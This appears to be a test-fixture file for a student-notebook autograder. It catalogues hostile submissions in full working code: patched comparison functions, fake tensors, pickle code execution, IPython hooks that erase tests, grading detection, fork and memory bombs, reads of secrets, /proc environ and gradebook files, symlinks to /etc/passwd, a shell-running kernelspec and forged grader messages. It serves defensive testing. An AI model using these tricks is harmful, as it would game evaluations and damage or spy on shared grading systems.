"""Hostile submissions: what students try, and what each must earn.

Each attack replaces one exercise's solution cell (the *target*) of an
otherwise correct notebook; some also tamper with the notebook itself. The
last group attacks the grader's own machinery (sandbox preparation and
clean-up, the channel, the probe's state, the grader's memory); where it
forges, the forgery is complete: it would earn full marks if accepted. Honest
code under the trick would earn nothing (stubs or wrong answers), so the trick
is the only way to points. Expected outcome for every attack: zero on the
target, full marks everywhere else, grading within its time limit, nothing
left running, nothing outside the submission changed, no hidden material out.

`CONTROLS` are correct submissions with harmless oddities that must keep full
marks. Placeholders in code: {course} (the course folder), {port} (a local
TCP port the test listens on), {decoy} (a host folder holding decoy files the
grader must never touch).
"""

from dataclasses import dataclass, field

import nbformat

from autograder.course import EXERCISES


def stubs(exercise):
    return "".join(
        f"\ndef {name}(*args, **kwargs):\n    raise NotImplementedError()\n" for name in EXERCISES[exercise].functions
    )


@dataclass
class Attack:
    name: str
    target: str
    code: str  # the target's solution cell
    what: str = ""  # one line for the report
    edit: object = None  # optional notebook tampering: edit(nb)
    needs: tuple = ()  # "course", "port": fixtures the code refers to
    stock_safe: bool = True  # False: too destructive to run unsandboxed in stock nbgrader
    tags: set = field(default_factory=set)

    @property
    def assignment(self):
        return EXERCISES[self.target].assignment

    def render(self, course="/nonexistent", port=9, decoy="/nonexistent"):
        """The target cell's code with its placeholders filled in."""
        return self.code.replace("{course}", str(course)).replace("{port}", str(port)).replace("{decoy}", str(decoy))


def _cells(nb, grade_id):
    return [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id]


def _delete_tests(nb):
    nb.cells = [
        c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_")
    ]


def _edit_test_and_points(nb):
    for c in _cells(nb, "test_create_tensors"):
        c.source = "print('ok')"
        c.metadata.nbgrader["points"] = 100


def _retype_and_duplicate(nb):
    for c in _cells(nb, "test_create_tensors"):
        c.cell_type = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)
    for c in _cells(nb, "test_move_to_device"):
        c.metadata.nbgrader = {"grade": False, "solution": True, "grade_id": "test_move_to_device", "locked": False}
    dup = nbformat.from_dict(dict(_cells(nb, "create_tensors")[0]))
    nb.cells.append(dup)


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {
        "name": "evil",
        "display_name": "evil",
        "language": "python",
        "argv": ["/bin/sh", "-c", "echo pwned > /tmp/pwned"],
    }


WRONG_MATRIX = "\ndef make_matrix():\n    return torch.zeros(3, 2, dtype=torch.float64)\n"

ATTACKS = [
    # --- comparison functions patched, wrong answers
    Attack(
        "patch_torch_allclose",
        "fix_inplace",
        """
torch.allclose = lambda *a, **k: True
def z_fixed(t):
    return t * 0 + 1
""",
        "torch.allclose always True; wrong values and gradient",
    ),
    Attack(
        "patch_torch_equal",
        "create_tensors",
        """
torch.equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
def make_matrix():
    return torch.zeros(2, 3)
def to_float32(a):
    return torch.zeros(a.shape)
def column_vector(y):
    return torch.zeros(len(y), 1)
""",
        "torch.equal / np.allclose always True; zeros of the right shape and dtype",
    ),
    Attack(
        "patch_assert_close",
        "autograd_descent",
        """
import math, torch.testing
torch.testing.assert_close = lambda *a, **k: None
math.isclose = lambda *a, **k: True
def square_and_grad(x0):
    return 0.0, 0.0
def descend(x0, lr, n_iter):
    return torch.tensor(0.0, requires_grad=True)
""",
        "torch.testing.assert_close / math.isclose patched; right types, wrong values",
    ),
    Attack(
        "patch_numpy_comparisons",
        "prepare_data",
        """
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
def standardize(X_train, X_valid, X_test):
    return tuple(torch.tensor(X, dtype=torch.float32) for X in (X_train, X_valid, X_test))
def to_column(y):
    return torch.zeros(len(y), 1)
""",
        "np.allclose / assert_allclose patched; not standardized",
    ),
    Attack(
        "patch_math_isclose",
        "autograd_descent",
        """
import math
math.isclose = lambda *a, **k: True
def square_and_grad(x0):
    return 1.0, 1.0
def descend(x0, lr, n_iter):
    return torch.tensor(float(x0), requires_grad=True)
""",
        "math.isclose always True",
    ),
    Attack(
        "patch_builtins",
        "create_tensors",
        """
import builtins
builtins.isinstance = lambda *a: True
builtins.all = lambda *a: True
builtins.abs = lambda x: 0
"""
        + WRONG_MATRIX
        + """
def to_float32(a):
    return a
def column_vector(y):
    return y
""",
        "isinstance/all/abs replaced in builtins",
    ),
    # --- fake tensors
    Attack(
        "lying_tensor_subclass",
        "create_tensors",
        """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.Tensor.__eq__, torch.equal, torch.allclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    @property
    def dtype(self):
        return torch.float32
def make_matrix():
    return torch.zeros(2, 3, dtype=torch.float64).as_subclass(Liar)
def to_float32(a):
    return torch.zeros(1).as_subclass(Liar)
def column_vector(y):
    return torch.zeros(1).as_subclass(Liar)
""",
        "Tensor subclass whose __torch_function__ lies",
    ),
    Attack(
        "always_equal_object",
        "create_tensors",
        """
class Anything:
    shape = (2, 3)
    dtype = torch.float32
    device = torch.device("cpu")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
def make_matrix(): return Anything()
def to_float32(a): return Anything()
def column_vector(y): return Anything()
""",
        "object with == always True, fake shape/dtype/device",
    ),
    Attack(
        "unpickling_runs_code",
        "create_tensors",
        """
import os
class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/unpickled",))
def make_matrix(): return Boom()
def to_float32(a): return Boom()
def column_vector(y): return Boom()
""",
        "returned object runs code when unpickled",
    ),
    # --- IPython machinery
    Attack(
        "input_transformer_blanks_tests",
        "autograd_descent",
        """
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("assert" in text or "test" in text) else lines
get_ipython().input_transformers_post.append(_blank_tests)
"""
        + stubs("autograd_descent"),
        "IPython input transformer blanks test cells",
    ),
    Attack(
        "ast_transformer_drops_asserts",
        "autograd_descent",
        """
import ast
class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(DropAsserts())
"""
        + stubs("autograd_descent"),
        "AST transformer removes every assert",
    ),
    Attack(
        "event_hook_hides_errors",
        "fix_inplace",
        """
def _hide(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _hide)
def z_fixed(t):
    raise NotImplementedError()
""",
        "post_run_cell hook clears errors",
    ),
    Attack(
        "code_object_swap",
        "fix_inplace",
        """
import json
def _quiet(*args, **kwargs):
    return None
torch.autograd.backward.__code__ = _quiet.__code__
np.allclose.__code__ = (lambda *a, **k: True).__code__
json.dumps.__code__ = (lambda *a, **k: '{"score": 3}').__code__
def z_fixed(t):
    return t.exp().detach()
""",
        "__code__ of backward / np.allclose / json.dumps swapped",
    ),
    Attack(
        "probe_patched_at_call_time",
        "create_tensors",
        """
import sys
def _forge(*args, **kwargs):
    return {"kind": "tensor", "exact_type": True, "is_parameter": False, "dtype": "torch.float32",
            "shape": [2, 3], "device": "cpu", "requires_grad": False, "is_leaf": True, "has_grad_fn": False,
            "values": [[1.0, 4.0, 7.0], [2.0, 3.0, 6.0]]}
def make_matrix():
    for name, mod in list(sys.modules.items()):
        if name.endswith("probe.exercises") or name.endswith("probe.observe"):
            mod.value = _forge
            mod.tensor = _forge
    return None
def to_float32(a):
    return make_matrix()
def column_vector(y):
    return make_matrix()
""",
        "student function rewrites the grader's probe while it runs",
    ),
    Attack(
        "background_thread_tampers",
        "autograd_descent",
        """
import threading, sys, time
def _tamper():
    while True:
        for name, mod in list(sys.modules.items()):
            if "probe" in name:
                for attr in ("value", "tensor", "call"):
                    if hasattr(mod, attr):
                        setattr(mod, attr, lambda *a, **k: {"kind": "float", "value": 9.0})
        time.sleep(0.001)
threading.Thread(target=_tamper, daemon=True).start()
"""
        + stubs("autograd_descent"),
        "a thread keeps rewriting the probe",
    ),
    Attack(
        "trace_function_tampers",
        "autograd_descent",
        """
import sys
def _tracer(frame, event, arg):
    if event == "return" and "probe" in frame.f_code.co_filename:
        frame.f_locals.clear()
    return _tracer
sys.settrace(_tracer)
"""
        + stubs("autograd_descent"),
        "sys.settrace hook on the probe's frames",
    ),
    # --- answers that only look right
    Attack(
        "right_only_on_first_call",
        "create_tensors",
        """
_calls = []
def make_matrix():
    _calls.append(1)
    return torch.tensor([[1., 4., 7.], [2., 3., 6.]]) if len(_calls) == 1 else torch.zeros(3, 2, dtype=torch.float64)
def to_float32(a):
    _calls.append(1)
    if len(_calls) == 1:
        return torch.from_numpy(np.array(a, dtype=np.float32))
    return torch.zeros(1, dtype=torch.float64)
def column_vector(y):
    return torch.zeros(1, dtype=torch.float64)
""",
        "correct on the first call only",
    ),
    Attack(
        "right_only_on_visible_example",
        "autograd_descent",
        """
def square_and_grad(x0):
    return (9.0, 6.0) if x0 == 3.0 else (0, 0)
def descend(x0, lr, n_iter):
    return torch.tensor(0.0)
""",
        "correct on the visible example only",
    ),
    Attack(
        "hard_coded_housing_results",
        "bgd_loop",
        """
def train_linear_bgd(X, y, lr, n_epochs, seed=42):
    w = torch.tensor([[0.8296], [0.1189], [-0.2655], [0.3057], [-0.0045], [-0.0398], [-0.8996], [-0.8702]],
                     requires_grad=True)
    b = torch.tensor(2.0685, requires_grad=True)
    losses = [16.158456802368164, 4.8793, 2.2552, 1.3993, 1.0441, 0.8675, 0.7702, 0.7128, 0.6772,
              0.6541, 0.6384, 0.6272, 0.6188, 0.6123, 0.6070, 0.6025, 0.5986, 0.5951, 0.5918, 0.5684100389480591]
    return w, b, losses[:n_epochs]
""",
        "hard-coded housing losses and parameters",
    ),
    Attack(
        "detects_grading",
        "autograd_descent",
        """
import os
_grading = bool(os.environ.get("NBGRADER_EXECUTION")) or any(
    part in os.getcwd() for part in ("autograded", "submitted", "nbgrader", "autograder"))
if _grading:
    def square_and_grad(x0):
        return float(x0) ** 2, 2.0 * x0
    def descend(x0, lr, n_iter):
        x = torch.tensor(x0, requires_grad=True)
        for _ in range(n_iter):
            (x ** 2).backward()
            with torch.no_grad():
                x -= lr * x.grad
            x.grad.zero_()
        return x
else:
"""
        + "".join("    " + line + "\n" for line in stubs("autograd_descent").strip().splitlines()),
        "behaves differently when it detects grading (NBGRADER_EXECUTION, cwd)",
    ),
    # --- crashes, hangs, resource abuse
    Attack("system_exit", "create_tensors", stubs("create_tensors") + "\nraise SystemExit(0)\n", "raise SystemExit"),
    Attack(
        "keyboard_interrupt",
        "create_tensors",
        stubs("create_tensors") + "\nraise KeyboardInterrupt\n",
        "raise KeyboardInterrupt",
    ),
    Attack("os_exit", "create_tensors", stubs("create_tensors") + "\nimport os\nos._exit(0)\n", "os._exit(0)"),
    Attack(
        "sigkill_self",
        "move_to_device",
        stubs("move_to_device") + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
        "SIGKILL to itself",
    ),
    Attack(
        "segfault",
        "move_to_device",
        stubs("move_to_device") + "\nimport ctypes\nctypes.string_at(0)\n",
        "segmentation fault",
    ),
    Attack(
        "infinite_loop_ignoring_sigint",
        "autograd_descent",
        stubs("autograd_descent")
        + """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
""",
        "infinite loop, SIGINT/SIGTERM ignored",
    ),
    Attack(
        "sleeps_forever", "autograd_descent", stubs("autograd_descent") + "\nimport time\ntime.sleep(10**6)\n", "sleeps"
    ),
    Attack(
        "memory_bomb",
        "fix_inplace",
        stubs("fix_inplace")
        + """
blocks = []
while True:
    blocks.append(bytearray(256 * 1024 * 1024))
""",
        "allocates memory until it fails",
        stock_safe=False,
    ),
    Attack(
        "fork_bomb",
        "fix_inplace",
        stubs("fix_inplace")
        + """
import os
for _ in range(10000):
    try:
        if os.fork() == 0:
            import time
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
""",
        "forks thousands of sleeping processes",
        stock_safe=False,
    ),
    Attack(
        "detached_daemon",
        "create_tensors",
        stubs("create_tensors")
        + """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        "leaves a daemon in a new session",
        stock_safe=False,
    ),
    # --- reading what it must not see
    Attack(
        "reads_course_secrets",
        "create_tensors",
        """
import glob, os, sys
found = []
for pattern in ["{course}/solutions/*/*.ipynb", "{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb",
                "{course}/.autograder_secret", "{course}/../exchange/*/*/*", "/srv/nbgrader/exchange/*",
                "../*/solutions/*/*.ipynb", "../../solutions/*/*.ipynb", "/root/*", "/home/*/*"]:
    for path in glob.glob(pattern):
        try:
            found.append(open(path, "rb").read(100))
        except OSError:
            pass
for module in ("autograder.exercises.create_tensors.judge", "autograder.judge", "autograder"):
    try:
        __import__(module)
        found.append(module)
    except Exception:
        pass
if found:
    def make_matrix():
        return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
    def to_float32(a):
        return torch.from_numpy(np.array(a, dtype=np.float32))
    def column_vector(y):
        return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
else:
    def make_matrix():
        raise NotImplementedError()
    to_float32 = column_vector = make_matrix
""",
        "reads solutions/, gradebook.db, other submissions, the exchange, the autograder package",
        needs=("course",),
    ),
    Attack(
        "reads_proc_environ",
        "create_tensors",
        """
import glob
secrets = []
for path in glob.glob("/proc/*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if b"AUTOGRADER_SECRET" in data or b"NBGRADER" in data:
        secrets.append(data)
if secrets:
    exec("def make_matrix():\\n    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])")
else:
    def make_matrix():
        raise NotImplementedError()
def to_float32(a):
    raise NotImplementedError()
def column_vector(y):
    raise NotImplementedError()
""",
        "scans /proc/*/environ for the grader's secrets",
    ),
    Attack(
        "writes_gradebook_and_others",
        "create_tensors",
        stubs("create_tensors")
        + """
import glob
for pattern in ["{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb", "{course}/autograded/*/*/*.ipynb",
                "{course}/solutions/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "w") as f:
                f.write("owned")
        except OSError:
            pass
""",
        "overwrites gradebook.db, other students' notebooks",
        needs=("course",),
    ),
    Attack(
        "forges_results_files",
        "create_tensors",
        stubs("create_tensors")
        + """
import json, os
fake = json.dumps({"score": 12, "max_score": 12, "tests": []})
for path in ["results.json", "../results.json", "/tmp/results.json", os.path.expanduser("~/results.json"),
             "/autograder/results/results.json"]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        open(path, "w").write(fake)
    except OSError:
        pass
""",
        "writes fake results.json files",
    ),
    Attack(
        "network_connection",
        "create_tensors",
        """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    _online = True
except OSError:
    _online = False
if _online:
    exec("def make_matrix():\\n    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])")
else:
    def make_matrix():
        raise NotImplementedError()
def to_float32(a):
    raise NotImplementedError()
def column_vector(y):
    raise NotImplementedError()
""",
        "opens a network connection",
        needs=("port",),
    ),
    # --- output games
    Attack(
        "prints_fake_success",
        "create_tensors",
        stubs("create_tensors")
        + """
import sys
print("All tests passed!")
print('{"score": 3.0, "max_score": 3.0}')
sys.stderr.write("Tudo certo: 3/3 pontos\\n")
""",
        "prints 'All tests passed' and a fake JSON score",
    ),
    Attack(
        "prints_100_mb",
        "create_tensors",
        stubs("create_tensors")
        + """
import sys
chunk = "x" * (1024 * 1024)
for _ in range(100):
    sys.stdout.write(chunk)
""",
        "prints 100 MB",
    ),
    # --- notebook tampering
    Attack(
        "deletes_test_cells", "create_tensors", stubs("create_tensors"), "deletes every test cell", edit=_delete_tests
    ),
    Attack(
        "edits_test_cell_and_points",
        "create_tensors",
        stubs("create_tensors"),
        "test cell replaced by print('ok'), points set to 100",
        edit=_edit_test_and_points,
    ),
    Attack(
        "retypes_and_duplicates_cells",
        "create_tensors",
        stubs("create_tensors"),
        "test cells re-typed, metadata rewritten, solution cell duplicated",
        edit=_retype_and_duplicate,
    ),
    Attack(
        "changes_kernelspec",
        "create_tensors",
        stubs("create_tensors"),
        "kernelspec points to another program",
        edit=_kernelspec,
    ),
]

# --------------------------------------------------------------------------- the grader's own machinery
# Code shared by several attacks below: the sockets a process holds, and a way to forge.

FIND_SOCKETS = """
import os as _os, stat as _stat, socket as _socket
def _socket_fds():
    found = []
    for fd in range(3, 512):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
"""

# Observations that earn fix_inplace full marks, computed with math from the hidden inputs (see
# test_adversarial.test_forgeries_would_earn_full_marks): what a forger sends once it has the inputs.
FORGE_FIX_INPLACE = """
import json as _json, math as _math
def _nest(flat, shape):
    if not shape:
        return flat[0]
    step = len(flat) // shape[0]
    return [_nest(flat[i * step:(i + 1) * step], shape[1:]) for i in range(shape[0])]
def _tensor(values, shape, leaf, grad=None):
    d = {"kind": "tensor", "exact_type": True, "is_parameter": False, "dtype": "torch.float32",
         "shape": list(shape), "device": "cpu", "requires_grad": True, "is_leaf": leaf, "has_grad_fn": not leaf,
         "values": _nest(values, shape)}
    if leaf:
        d["grad"] = dict(_tensor(grad, shape, False), requires_grad=False, is_leaf=True, has_grad_fn=False)
    return d
def forged_fix_inplace(inputs):
    for i, spec in enumerate(inputs["t"]):
        t = [float(v) for v in spec["values"]]
        yield f"z_fixed/{i}", {"result": _tensor([_math.exp(v) + 1 for v in t], spec["shape"], False),
                               "backward": {"ok": True, "t": _tensor(t, spec["shape"], True,
                                                                      [_math.exp(v) for v in t])},
                               "input_unchanged": True}
    yield "z_buggy", {"kind": "tensor", "backward": {"ok": False, "exception": "RuntimeError"}}
def _serve_forgery(sock):
    data = b""
    while not data.endswith(b"\\n"):
        chunk = sock.recv(1 << 16)
        if not chunk:
            return
        data += chunk
    for key, obs in forged_fix_inplace(_json.loads(data)["inputs"]):
        sock.sendall(_json.dumps({"event": "obs", "key": key, "data": obs}).encode() + b"\\n")
    sock.sendall(b'{"event": "done"}\\n')
def _register_fake_probe(fd):
    import array, threading
    control = _socket.socket(fileno=_os.dup(fd))
    if control.type != _socket.SOCK_SEQPACKET:
        control.close()
        return
    mine, theirs = _socket.socketpair()
    try:
        control.sendmsg([b'{"event": "probe", "exercise": "fix_inplace"}'],
                        [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, array.array("i", [theirs.fileno()]))])
    except OSError:
        return
    threading.Thread(target=_serve_forgery, args=(mine,), daemon=True).start()
def _steal_stdin():
    import threading
    def read():
        data = _os.read(0, 1 << 20)
        if data:
            for fd in _socket_fds():
                try:
                    _os.write(fd, data)
                except OSError:
                    pass
    threading.Thread(target=read, daemon=True).start()
"""

# The probe would observe these reference functions instead of the student's stubs.
SWAP_OBSERVED_FUNCTIONS = """
import sys as _sys
_reference = {}
exec('''
def make_matrix():
    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
def to_float32(a):
    return torch.from_numpy(np.array(a, dtype=np.float32))
def column_vector(y):
    return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
''', {"torch": torch, "np": np}, _reference)
def _swap_probe_table(*args):
    for name, module in list(_sys.modules.items()):
        if name.startswith("_agprobe") and isinstance(vars(module).get("PROBES"), dict):
            probes = vars(module)["PROBES"]
            real = probes["create_tensors"]
            if getattr(real, "__name__", "") != "_forged":
                def _forged(namespace, inputs, _real=real):
                    return _real(_reference, inputs)
                probes["create_tensors"] = _forged
"""

# A cell patches the probe's device recorder so that gram_on's product "ran" on every device; gram_on computes
# on the CPU and only moves the result (worth a quarter of its points), pick_device is a stub.
FORGE_WHERE_PRODUCT_RAN = """
import sys as _sys
def _forged_dispatch(self, func, types, args=(), kwargs=None):
    out = func(*args, **(kwargs or {}))
    self.products[:] = ["cpu", "meta", "cuda"]
    return out
for _module in list(_sys.modules.values()):
    _recorder = getattr(_module, "_WhereOpsRun", None)
    if isinstance(_recorder, type):
        _recorder.__torch_dispatch__ = _forged_dispatch
def pick_device():
    raise NotImplementedError()
def gram_on(M, device):
    return (M @ M.T).to(device)
"""

DEEP_TREE = """
import os
for top in (os.path.expanduser("~"), "/tmp"):
    path = top
    for i in range(1500):
        path = os.path.join(path, "d")
        try:
            os.mkdir(path)
        except OSError:
            break
"""

SLOW_FILES = """
import os, time
_end = time.time() + 4
_i = 0
while time.time() < _end:
    os.makedirs(f"/tmp/lento/{_i // 1000}", exist_ok=True)
    open(f"/tmp/lento/{_i // 1000}/{_i}", "w").close()
    _i += 1
os._exit(0)
"""


def _slow_cells_elsewhere(nb):
    """Two more cells that create files for seconds and then kill the process, after other exercises."""
    for grade_id in ("test_move_to_device", "test_autograd_descent"):
        index = next(
            i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
        )
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(SLOW_FILES))


MACHINERY_ATTACKS = [
    Attack(
        "symlinks_to_host_files_then_crash",
        "create_tensors",
        stubs("create_tensors")
        + """
import os
home = os.path.expanduser("~")
for i, target in enumerate(["{decoy}/arquivo", "{decoy}/pasta", "{decoy}", "{course}/.autograder_secret",
                            "{course}/gradebook.db", "/etc/passwd", "/root", "/"]):
    for folder in (home, "/tmp"):
        try:
            os.symlink(target, os.path.join(folder, f"l{i}"))
        except OSError:
            pass
os._exit(0)  # the retry used to chown the folder, following these links, as root
""",
        "links to host files in its folders, then a crash (a retry prepares the folder again)",
        needs=("course", "decoy"),
        stock_safe=False,
    ),
    Attack(
        "deep_tree_then_crash",
        "create_tensors",
        stubs("create_tensors") + DEEP_TREE + "\nos._exit(0)\n",
        "a 1,500-level folder tree, then a crash (clean-up walked it recursively)",
        stock_safe=False,
    ),
    Attack(
        "dangling_symlink_then_crash",
        "create_tensors",
        stubs("create_tensors")
        + """
import os
os.symlink("/nao/existe", os.path.expanduser("~/quebrado"))
os.symlink("/nao/existe", "/tmp/quebrado")
os._exit(0)
""",
        "a dangling link, then a crash",
    ),
    Attack(
        "forges_control_messages",
        "create_tensors",
        stubs("create_tensors")
        + FIND_SOCKETS
        + """
_messages = [b'{"event": "cell_end", "index": 3, "exception": "LEAK_segredo_do_aluno"}',
             b'{"event": "memory", "maxrss_kb": ' + b"9" * 4299 + b'}',
             b"{'event': 'cell_end', 'index': [0]}\\n",
             b'{"event": "cell_end", "index": [0], "exception": null}',
             b'{"event": "probe_end", "exercise": "create_tensors"}']
for _fd in _socket_fds():
    for _m in _messages:
        try:
            _os.write(_fd, _m)
        except OSError:
            pass
""",
        "writes forged and malformed events (unhashable index, leaking exception name, huge number) on every socket",
    ),
    Attack(
        "cell_registers_fake_probe",
        "fix_inplace",
        FIND_SOCKETS
        + FORGE_FIX_INPLACE
        + """
_steal_stdin()
for _fd in _socket_fds():
    _register_fake_probe(_fd)
""",
        "cell code registers itself as the probe and answers with forged observations",
    ),
    Attack(
        "forked_child_registers_fake_probe",
        "fix_inplace",
        FIND_SOCKETS
        + FORGE_FIX_INPLACE
        + """
import time
if _os.fork() == 0:
    for _fd in _socket_fds():
        _register_fake_probe(_fd)
    time.sleep(60)
    _os._exit(0)
""",
        "a forked child registers as the probe",
    ),
    Attack(
        "subprocess_registers_fake_probe",
        "fix_inplace",
        FIND_SOCKETS
        + FORGE_FIX_INPLACE
        + """
import subprocess, sys
_script = FIND_SOCKETS_SOURCE + FORGE_SOURCE + "\\nfor fd in _socket_fds():\\n    _register_fake_probe(fd)\\n" \\
          "import time\\ntime.sleep(60)\\n"
subprocess.Popen([sys.executable, "-c", _script], pass_fds=_socket_fds(), stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
""".replace("FIND_SOCKETS_SOURCE", repr(FIND_SOCKETS)).replace("FORGE_SOURCE", repr(FORGE_FIX_INPLACE)),
        "a new Python process, handed the control socket, registers as the probe",
    ),
    Attack(
        "replaces_probe_table",
        "create_tensors",
        stubs("create_tensors")
        + SWAP_OBSERVED_FUNCTIONS
        + """
_swap_probe_table()
""",
        "replaces the probe's PROBES entry: it would observe reference functions",
    ),
    Attack(
        "edits_probe_on_disk_then_crash",
        "create_tensors",
        stubs("create_tensors")
        + """
import os, shutil, sys
_patch = "\\nPROBES['create_tensors'] = lambda ns, inputs, _r=PROBES['create_tensors']: _r(" \\
         "{'make_matrix': lambda: torch.tensor([[1., 4., 7.], [2., 3., 6.]])," \\
         " 'to_float32': lambda a: torch.from_numpy(numpy.array(a, dtype=numpy.float32))," \\
         " 'column_vector': lambda y: torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()}, inputs)\\n"
_src = next(p for p in sys.path if os.path.isdir(os.path.join(p, "_agprobe")))
for _dest in (_src, os.path.expanduser("~"), "/tmp"):
    try:
        if _dest != _src:
            shutil.copytree(os.path.join(_src, "_agprobe"), os.path.join(_dest, "_agprobe"), dirs_exist_ok=True)
        with open(os.path.join(_dest, "_agprobe", "exercises.py"), "a") as f:
            f.write(_patch)
    except OSError:
        pass
os._exit(0)  # the retry imports the probe again
""",
        "edits the probe's files (and plants a copy in its home), then a crash",
    ),
    Attack(
        "audit_hook_repatches_probe",
        "create_tensors",
        stubs("create_tensors")
        + SWAP_OBSERVED_FUNCTIONS
        + """
_sys.addaudithook(lambda event, args: _swap_probe_table())
""",
        "an audit hook puts the forgery back whenever the guard restores",
    ),
    Attack(
        "at_fork_hooks_run_in_probe",
        "create_tensors",
        stubs("create_tensors")
        + SWAP_OBSERVED_FUNCTIONS
        + """
import os
os.register_at_fork(before=_swap_probe_table, after_in_child=_swap_probe_table)
""",
        "at-fork hooks change the probe in its fork",
    ),
    Attack(
        "floods_grader_with_huge_lines",
        "fix_inplace",
        FIND_SOCKETS
        + """
_line = b'{"event": "obs", "key": "z_fixed/0", "data": [' + b"0," * (6 * 1024 * 1024) + b'0]}\\n'
def _flood():
    for fd in _socket_fds():
        for _ in range(2):
            try:
                _os.write(fd, _line)
            except OSError:
                pass
_flood()
def z_fixed(t):
    _flood()  # the probe's own socket is open while it calls this
    raise NotImplementedError()
""",
        "12 MiB lines on every socket, from the cell and from inside the probed function",
    ),
    Attack(
        "slow_file_creation_then_crash",
        "create_tensors",
        stubs("create_tensors") + SLOW_FILES,
        "creates files for seconds and crashes, three times (clean-up time no clock covered)",
        edit=_slow_cells_elsewhere,
    ),
    Attack(
        "exhausts_process_limit_and_hangs",
        "fix_inplace",
        stubs("fix_inplace")
        + """
import os, time
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
time.sleep(600)
""",
        "forks until the process limit, then hangs",
        stock_safe=False,
    ),
]
ATTACKS += MACHINERY_ATTACKS


def exercise_attacks():
    """Each exercise's own hostile submissions: `ATTACKS` in tests/cases/<id>.py, a list of dicts of Attack's
    fields without `target` (the exercise itself)."""
    from cases import cases

    from autograder.exercises import exercise_ids

    return [
        Attack(target=exercise, **fields)
        for exercise in exercise_ids()
        for fields in getattr(cases(exercise), "ATTACKS", ())
    ]


ATTACKS += exercise_attacks()


CONTROLS = {
    "warns": (
        "create_tensors",
        """
import warnings
def make_matrix():
    warnings.warn("só um aviso")
    x = torch.tensor(1.0, requires_grad=True) * 2
    x.grad  # torch's own UserWarning on stderr
    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
def to_float32(a):
    return torch.from_numpy(np.array(a, dtype=np.float32))
def column_vector(y):
    return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
""",
    ),
    "prints_a_lot": (
        "create_tensors",
        """
for i in range(200000):
    print("linha", i)
def make_matrix():
    print("chamada" * 1000)
    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
def to_float32(a):
    return torch.from_numpy(np.array(a, dtype=np.float32))
def column_vector(y):
    return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
""",
    ),
    "uses_timeit": (
        "create_tensors",
        """
def make_matrix():
    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
def to_float32(a):
    return torch.from_numpy(np.array(a, dtype=np.float32))
def column_vector(y):
    return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
%timeit -n 3 -r 1 make_matrix()
""",
    ),
    "seeds_torch_globally": (
        "autograd_descent",
        """
torch.manual_seed(0)
np.random.seed(0)
def square_and_grad(x0):
    x = torch.tensor(x0, requires_grad=True)
    f = x ** 2
    f.backward()
    return f.item(), x.grad.item()
def descend(x0, lr, n_iter):
    x = torch.tensor(x0, requires_grad=True)
    for _ in range(n_iter):
        f = x ** 2
        f.backward()
        with torch.no_grad():
            x -= lr * x.grad
        x.grad.zero_()
    return x
""",
    ),
}
